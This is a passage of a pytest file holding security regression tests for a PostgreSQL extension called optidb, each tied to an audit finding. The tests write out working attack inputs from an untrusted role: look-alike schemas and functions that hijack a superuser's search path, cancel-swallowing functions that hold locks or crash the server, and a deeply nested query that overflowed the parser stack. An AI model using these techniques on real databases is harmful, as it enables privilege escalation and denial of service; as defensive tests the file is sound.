        assert plan_errors(c, "FROM shared_t WHERE v") == [None]
        assert scalar(c, "SELECT p.search_path FROM optidb.plan p JOIN optidb.query q "
                         "ON q.id = p.query_id WHERE strpos(q.raw_sql, 'FROM shared_t WHERE v') > 0"
                      ) == "public"
    w.assert_unharmed()


def test_names_in_a_functions_body_do_not_find_a_schema_created_after_the_statement(world):
    """Round 3, finding A11: a superuser's sampled statement calls its stable function whose
    body reads `shared_t` unqualified. Its recorded path "$user", public found mallory's schema
    `postgres`, created later, when the replay estimated the call: her view ran as the
    superuser. Paths are now recorded as the schemas they found."""
    w = world
    make_customers(w)
    with w.conn("postgres") as su:
        su.execute(f"GRANT CREATE ON DATABASE \"{w.db}\" TO \"{w.roles['mallory']}\"")
        su.execute("CREATE FUNCTION public.cnt(int) RETURNS int LANGUAGE sql STABLE "
                   "AS 'SELECT count(*)::int FROM shared_t WHERE v = $1'")
        for i in range(3):
            su.execute("SELECT count(*) FROM public.customers WHERE status = public.cnt(%s)",
                       (i,))
    w.as_mallory("""
        CREATE SCHEMA postgres;
        CREATE VIEW postgres.shared_t AS SELECT m.harm_i('fn-body') AS v, 1 AS id;
        GRANT USAGE ON SCHEMA postgres TO PUBLIC;
        GRANT SELECT ON postgres.shared_t TO PUBLIC""")
    scan(w, "adm")
    with w.conn("adm") as c:
        errors = plan_errors(c, "status = public.cnt(")
        assert errors and all(e is None for e in errors), errors
        paths = {r[0] for r in c.execute(
            "SELECT s.search_path FROM optidb.sample s JOIN optidb.query q ON q.id = s.query_id "
            "WHERE strpos(q.raw_sql, 'status = public.cnt(') > 0")}
        assert paths == {"pg_catalog, public"}, paths
    w.assert_unharmed()


@pytest.mark.parametrize("configured", ["app, public", '"$user", app, public', "scratch, public"])
def test_a_configured_schema_created_after_the_statement_is_not_searched(world, configured):
    """Round 4, finding N2: the superuser's configured path names `app`, which does not exist;
    its statement has no sample. mallory creates `app` (and `postgres`, for "$user") later with
    a look-alike of the function the statement calls unqualified: the replay ran it as the
    superuser. A path that was not recorded keeps only schemas of roles the owner trusts.
    Round 5, R2: the superuser's own `scratch`, where anyone may create, is no better."""
    w = world
    make_customers(w)
    with w.conn("postgres") as su:
        su.execute(f"GRANT CREATE ON DATABASE \"{w.db}\" TO \"{w.roles['mallory']}\"")
        su.execute("CREATE SCHEMA scratch")
        su.execute("GRANT USAGE, CREATE ON SCHEMA scratch TO PUBLIC")
        su.execute(f"ALTER ROLE postgres IN DATABASE \"{w.db}\" SET search_path = {configured}")
        su.execute("CREATE FUNCTION public.cnt2(int) RETURNS int LANGUAGE sql IMMUTABLE "
                   "AS 'SELECT $1 * 2'")
    with w.conn("postgres") as su:
        su.execute("SET optidb.enabled = off")
        for i in range(3):
            su.execute("SELECT count(*) FROM public.customers WHERE status = cnt2(%s)", (i,))
    for schema in ("app", "postgres", "scratch"):
        create = "" if schema == "scratch" else f"""
            CREATE SCHEMA {schema};
            GRANT USAGE ON SCHEMA {schema} TO PUBLIC;"""
        w.as_mallory(f"""{create}
            CREATE FUNCTION {schema}.cnt2(int) RETURNS int LANGUAGE sql IMMUTABLE
              AS $$ SELECT m.harm_i('configured-{schema}') * $1 $$;
            GRANT EXECUTE ON FUNCTION {schema}.cnt2(int) TO PUBLIC""")
    scan(w, "adm")
    with w.conn("adm") as c:
        assert plan_errors(c, "status = cnt2(") == [None]
        assert c.execute("SELECT p.search_path, p.path_source FROM optidb.plan p "
                         "JOIN optidb.query q ON q.id = p.query_id "
                         "WHERE strpos(q.raw_sql, 'status = cnt2(') > 0").fetchall() == [
            ("public", "role_database_setting")]
    w.assert_unharmed()


@pytest.mark.parametrize("recreated", [True, False])
def test_a_recorded_schema_dropped_and_recreated_by_someone_else_is_not_searched(world, recreated):
    """Round 5, finding R1: the superuser's sampled statement ran with `app, public`, `app`
    being its own (empty) schema. It dropped `app`; mallory created another `app` with a
    look-alike of the function the statement calls unqualified: the recorded path kept `app` by
    name and her function ran as the superuser. A recorded name is now used only while it
    denotes the schema recorded (same OID); left alone, `app` stays on the path."""
    w = world
    make_customers(w)
    with w.conn("postgres") as su:
        su.execute(f"GRANT CREATE ON DATABASE \"{w.db}\" TO \"{w.roles['mallory']}\"")
        su.execute("CREATE SCHEMA app")
        su.execute("CREATE FUNCTION public.cnt2(int) RETURNS int LANGUAGE sql IMMUTABLE "
                   "AS 'SELECT $1 * 2'")
        su.execute("SET search_path = app, public")
        for i in range(3):
            su.execute("SELECT count(*) FROM public.customers WHERE status = cnt2(%s)", (i,))
        su.execute("RESET search_path")
        if recreated:
            su.execute("DROP SCHEMA app")
    if recreated:
        w.as_mallory("""
            CREATE SCHEMA app;
            GRANT USAGE ON SCHEMA app TO PUBLIC;
            CREATE FUNCTION app.cnt2(int) RETURNS int LANGUAGE sql IMMUTABLE
              AS $$ SELECT m.harm_i('recorded-app') * $1 $$;
            GRANT EXECUTE ON FUNCTION app.cnt2(int) TO PUBLIC""")
    scan(w, "adm")
    with w.conn("adm") as c:
        recorded = c.execute(
            "SELECT DISTINCT s.search_path, s.search_path_oids::text[] FROM optidb.sample s "
            "JOIN optidb.query q ON q.id = s.query_id "
            "WHERE strpos(q.raw_sql, 'status = cnt2(') > 0").fetchall()
        assert len(recorded) == 1 and recorded[0][0] == "pg_catalog, app, public", recorded
        assert len(recorded[0][1]) == 3 and recorded[0][1][0] == "11", recorded
        errors = plan_errors(c, "status = cnt2(")
        assert errors and all(e is None for e in errors), errors
        paths = {r for r in c.execute(
            "SELECT p.search_path, p.path_source FROM optidb.plan p "
            "JOIN optidb.query q ON q.id = p.query_id "
            "WHERE strpos(q.raw_sql, 'status = cnt2(') > 0")}
        expected = "pg_catalog, public" if recreated else "pg_catalog, app, public"
        assert paths == {(expected, "recorded")}, paths
    w.assert_unharmed()


def test_real_mode_releases_writers_in_time_even_when_replayed_code_catches_cancels(world):
    """Round 3, finding A10: in the measured run after the build, mallory's code caught every
    cancel, so the build's lock blocked writers of the superuser's table until the worker's
    whole budget ran out (29 s with the defaults), not the documented build + statement
    timeouts."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.hold() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
        BEGIN
          IF EXISTS (SELECT FROM pg_catalog.pg_index
                     WHERE indrelid OPERATOR(pg_catalog.=) 'public.shared_t'::pg_catalog.regclass)
          THEN
            LOOP
              BEGIN PERFORM pg_catalog.pg_sleep(3600);
              EXCEPTION WHEN query_canceled THEN NULL;
              END;
            END LOOP;
          END IF;
          RETURN 1;
        END $f$""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT count(*) FROM public.shared_t WHERE v = %s AND m.hold() = 1", (i,))
    with w.conn("postgres") as su:  # a superuser-only setting, given to the admin's sessions
        su.execute(f"ALTER ROLE \"{w.roles['adm']}\" SET optidb.real_simulation_timeout = '2s'")
    with w.conn("adm") as c:
        c.execute("SELECT * FROM optidb.scan()")
        rec, qid = advice_serving(c, "m.hold()")
        c.execute("SET optidb.statement_timeout = '1s'")
        done = {}
        thread = threading.Thread(target=lambda: done.update(row=c.execute(
            "SELECT error FROM optidb.simulate(%s, %s, 'real')", (qid, rec)).fetchone()))
        thread.start()
        with w.conn("postgres") as su:
            give_up = time.monotonic() + 30
            while not scalar(su, "SELECT count(*) FROM pg_locks l WHERE l.granted "
                                 "AND l.relation = 'public.shared_t'::regclass "
                                 "AND l.mode = 'ShareLock'") and time.monotonic() < give_up:
                time.sleep(0.05)
            started = time.monotonic()
            su.execute("SET statement_timeout = '60s'")
            su.execute("INSERT INTO public.shared_t VALUES (-1, -1)")
            blocked = time.monotonic() - started
            su.execute("DELETE FROM public.shared_t WHERE id = -1")
        thread.join(60)
        # Bound: build (2 s) + statement (1 s) + 1 s, polled; the old budget was 2*1+2+lock+10.
        assert blocked < 7, f"a writer waited {blocked:.1f} s"
        assert done["row"][0] and "time" in done["row"][0], done
    w.assert_unharmed()


def test_ending_a_replay_that_writes_does_not_restart_the_server(world):
    """Round 4, finding N1: mallory's immutable function, folded when a replay plans her
    statement, keeps writing to her own table and catches every cancel, so optidb ends the
    replay worker with SIGTERM. With the default background-worker handler the FATAL was raised
    inside the signal handler; landing in a WAL critical section it became a PANIC and the
    whole cluster restarted. The worker now ends at its next interrupt check."""
    w = world
    make_customers(w)
    w.as_mallory("""
        CREATE TABLE m.sink (g int, pad text);
        CREATE FUNCTION m.boom_v(int) RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
        BEGIN
          IF (SELECT backend_type FROM pg_catalog.pg_stat_activity
              WHERE pid OPERATOR(pg_catalog.=) pg_catalog.pg_backend_pid())
             OPERATOR(pg_catalog.!~~) 'optidb%replay' THEN
            RETURN $1;
          END IF;
          LOOP
            BEGIN
              INSERT INTO m.sink SELECT g, pg_catalog.repeat(pg_catalog.md5(g::text), 30)
              FROM pg_catalog.generate_series(1, 100000000) g;
            EXCEPTION WHEN query_canceled THEN NULL;
            END;
          END LOOP;
        END $f$;
        CREATE FUNCTION m.boom(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
        BEGIN RETURN (SELECT m.boom_v($1)); END $f$""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT count(*) FROM public.customers WHERE status = m.boom(%s)", (i,))
    with w.conn("postgres") as su:
        started = scalar(su, "SELECT pg_postmaster_start_time()")
    with w.conn("adm") as c:
        c.execute("SET optidb.statement_timeout = 1")
        c.execute("SELECT * FROM optidb.scan()")
        errors = plan_errors(c, "status = m.boom(")
    assert errors and all(e for e in errors), errors
    with w.conn("postgres") as su:
        assert scalar(su, "SELECT pg_postmaster_start_time()") == started, "the server restarted"
    w.assert_unharmed()


def test_a_statement_nested_thousands_deep_does_not_take_the_server_down(world):
    """Round 3, finding A02-A05: libpg_query recursed without a depth check and overflowed the
    backend's stack on a 4,000-term expression any role can run: snapshot() (the worker's job)
    and scan() crashed the whole cluster."""
    w = world
    deep = "SELECT id FROM public.shared_t WHERE (v" + "+v" * 4000 + ") = 7"
    with w.conn("mallory") as c:
        c.execute(deep)
    with w.conn("adm") as c:
        c.execute("SELECT * FROM optidb.snapshot()")
        c.execute("SELECT * FROM optidb.scan()")
        stored = scalar(c, "SELECT count(*) FROM optidb.query WHERE raw_sql LIKE %s",
                        ("%+v+v+v+v%",))
        assert stored == 1
    with w.conn("postgres") as su:
        # No backend crashed: the postmaster would have restarted every session.
        started = scalar(su, "SELECT pg_postmaster_start_time() < now() - interval '1 second'")
        assert started
        assert scalar(su, "SELECT count(*) FROM pg_stat_activity WHERE backend_type = 'checkpointer'") == 1
